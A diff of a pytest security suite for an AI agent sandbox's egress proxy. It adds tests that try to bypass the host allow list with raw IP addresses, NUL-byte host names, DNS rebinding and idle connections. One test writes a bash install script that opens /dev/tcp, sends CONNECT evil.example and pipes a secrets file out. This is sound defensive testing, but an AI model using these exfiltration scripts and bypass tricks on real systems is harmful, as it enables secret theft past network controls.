@@ -4,23 +4,25 @@ from __future__ import annotations
 
 import asyncio
 import ssl
-from collections.abc import Mapping, Sequence
-from contextlib import asynccontextmanager, suppress
+from collections.abc import AsyncIterator, Callable, Mapping, Sequence
+from contextlib import AbstractAsyncContextManager, asynccontextmanager, suppress
 from dataclasses import dataclass, field
+from functools import partial
 from pathlib import Path
 from typing import Any
 
 import pytest
+from caged_place import PROBE, SECRET
 from security_registry import attack, defence
 
 from otto_bot.bench.simulate.planting import Change
 from otto_bot.core import egress_hosts
 from otto_bot.core.config import Project
 from otto_bot.core.egress_hosts import REGISTRIES, Allowed
+from otto_bot.jobs import setting_up
 from otto_bot.jobs.setting_up import SetUp
 from otto_bot.model.toolset import FileTools
-from otto_bot.sandbox.cage import Cage
-from otto_bot.sandbox.egress import WayLimits, open_way
+from otto_bot.sandbox.egress import Egress, WayLimits, open_way
 
 EGRESS, HOSTS = "otto_bot.sandbox.egress", "otto_bot.core.egress_hosts"
 PUBLIC = "93.184.215.14"
@@ -111,21 +113,21 @@ class Internet:
         return await asyncio.open_connection("127.0.0.1", self.port)
 
     async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-        """Read to the end, then answer."""
-        while chunk := await reader.read(65536):
-            self.received += chunk
+        """Read to the end, and say of each piece that it came."""
+        with suppress(ConnectionError):
+            while chunk := await reader.read(65536):
+                self.received += chunk
+                writer.write(b"thanks\n")
+                await writer.drain()
         writer.close()
 
-
-@asynccontextmanager
-async def way_to(internet: Internet, entries: Sequence[str], limits: WayLimits | None = None, near: Sequence[str] = ()):
-    """The proxy, on this internet."""
-    server = await asyncio.start_server(internet.serve, "127.0.0.1", 0)
-    internet.port = server.sockets[0].getsockname()[1]
-    async with server, open_way(
-        Allowed(tuple(entries), near=tuple(near)), limits=limits, resolve=internet.resolve, connect=internet.connect
-    ) as way:  # fmt: skip
-        yield way
+    @asynccontextmanager
+    async def there(self) -> AsyncIterator[Callable[..., AbstractAsyncContextManager[Egress]]]:
+        """While it lasts: how the proxy is opened on this internet."""
+        server = await asyncio.start_server(self.serve, "127.0.0.1", 0)
+        self.port = server.sockets[0].getsockname()[1]
+        async with server:
+            yield partial(open_way, resolve=self.resolve, connect=self.connect)
 
 
 async def connected(
@@ -136,10 +138,10 @@ async def connected(
     up: int = 10**6,
     near: bool = False,
 ) -> str | None:
-    """What a client got that asks for `target` and then sends `then`: the addresses it reached, or None."""
+    """What a client got that asks for `target` and sends `then`: which addresses had something of it, or None."""
     host = target.partition(":")[0]
-    hosts = (entries, ()) if not near else ([host], [host])
-    async with way_to(internet, hosts[0], WayLimits(up=up), hosts[1]) as way:
+    names = Allowed((host,), near=(host,)) if near else Allowed(tuple(entries))
+    async with internet.there() as opened, opened(names, limits=WayLimits(up=up)) as way:
         reader, writer = await asyncio.open_unix_connection(way.socket)
         writer.write(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode("latin-1"))
         head = await reader.readuntil(b"\r\n\r\n")
@@ -149,7 +151,7 @@ async def connected(
             with suppress(ConnectionError):  # cut off in the middle
                 await reader.read()
         writer.close()
-    return f"{internet.connected}: {len(internet.received)} bytes" if b" 200 " in head else None
+    return f"{internet.connected}: {len(internet.received)} bytes" if internet.received else None
 
 
 def greeting(name: str) -> bytes:
@@ -170,8 +172,8 @@ async def foreign_host(place: Path) -> str | None:
 
 @attack("address-instead-of-a-name", point=4, by=NAMES, source="own: an address needs no name that a list could hold")
 async def address_instead_of_a_name(place: Path) -> str | None:
-    """An install script connects to an address."""
-    return await connected(Internet({PUBLIC: [PUBLIC]}), f"{PUBLIC}:443", then=greeting("pypi.org"))
+    """An install script sends what it finds to an address, at the port where no greeting names a host."""
+    return await connected(Internet({PUBLIC: [PUBLIC]}), f"{PUBLIC}:80", then=b"POST / HTTP/1.1\r\n\r\nkeys")
 
 
 @attack("other-port", point=4, by=PORTS, source="https://www.kb.cert.org/vuls/id/150227 CONNECT to any port")
@@ -184,7 +186,7 @@ async def other_port(place: Path) -> str | None:
 async def nul_in_a_name(place: Path) -> str | None:
     """A host whose name ends as an allowed one does, behind a NUL at which resolvers stop reading."""
     internet = Internet({"evil.example": [PUBLIC]})
-    return await connected(internet, "evil.example\0.corp.example:443", ["*.corp.example"])
+    return await connected(internet, "evil.example\0.corp.example:80", ["*.corp.example:80"], then=b"keys")
 
 
 @attack(
@@ -223,8 +225,7 @@ async def rebinding_after_the_check(place: Path) -> str | None:
 async def another_host_at_the_address(place: Path) -> str | None:
     """A script asks the proxy for an allowed host, and the cache behind its address for the attacker's."""
     internet = Internet({"pypi.org": [PUBLIC]})
-    got = await connected(internet, "pypi.org:443", then=greeting("evil.example"))
-    return got if internet.received else None
+    return await connected(internet, "pypi.org:443", then=greeting("evil.example"))
 
 
 @attack("send-the-repository", point=4, by=SENT, source="https://github.com/advisories/GHSA-cxm3-wv7p-598c")
@@ -238,7 +239,7 @@ async def send_the_repository(place: Path) -> str | None:
 @attack("silent-connections", point=4, by=COUNTED, source="CVE-2007-6750, connections held open without a request")
 async def silent_connections(place: Path) -> str | None:
     """An install script opens connections and says nothing, until the worker has no descriptor left."""
-    async with way_to(Internet({}), (), WayLimits(connections=4)) as way:
+    async with Internet({}).there() as on, on(Allowed(()), limits=WayLimits(connections=4)) as way:
         opened = [await asyncio.open_unix_connection(way.socket) for _ in range(40)]
         for _look in range(1000):
             if way.refused or way._open >= len(opened):
@@ -285,18 +286,23 @@ class Tree:
 
 @attack("edited-postinstall-fetches", point=4, by=NAMES, source="https://github.com/advisories/GHSA-cxm3-wv7p-598c")
 async def edited_postinstall(place: Path) -> str | None:
-    """A package's install script, run by a set-up in the cage, asks for a host to send its finds to."""
-    probe = Cage.probe()
-    if not probe.ok:
-        pytest.skip(probe.reason)
+    """A package's install script, run by a set-up in the cage, sends what it finds to a host of its own."""
+    if not PROBE.ok:
+        pytest.skip(PROBE.reason)
     (place / "work").mkdir()
-    script = 'exec 3<>/dev/tcp/127.0.0.1/3128\nprintf "CONNECT localhost:443 HTTP/1.1\\r\\n\\r\\n" >&3\nhead -n 1 <&3\n'
-    (place / "work" / "postinstall.sh").write_text(script)
-    setup = SetUp((Project(setup="bash postinstall.sh"),), Allowed(REGISTRIES))
+    (place / "work" / "keys").write_text(SECRET)
+    (place / "work" / "postinstall.sh").write_text(
+        "exec 3<>/dev/tcp/127.0.0.1/3128\nprintf 'CONNECT evil.example:80 HTTP/1.1\\r\\n\\r\\n' >&3\n"
+        "read -r said <&3; read -r said <&3\ncat keys >&3\nread -r said <&3\n"
+    )
+    internet = Internet({"evil.example": [PUBLIC]})
     tree: Any = Tree(place / "work", place / "home")
-    said = await setup.once(probe.cage(), tree, (), {}, 20.0)
-    # Without the list the next wall is met: that of addresses.
-    return None if "localhost:443: it is not on the list of hosts" in said else said
+    setup = SetUp((Project(setup="bash postinstall.sh"),), Allowed(REGISTRIES))
+    with pytest.MonkeyPatch.context() as patch:
+        async with internet.there() as opened:
+            patch.setattr(setting_up, "open_way", opened)
+            await setup.once(PROBE.cage(), tree, (), {}, 20.0)
+    return f"{internet.connected} got {bytes(internet.received)!r}" if internet.received else None
 
 
 @attack("search-without-end", point=4, by=SEARCHES, source="https://cwe.mitre.org/data/definitions/1333.html")
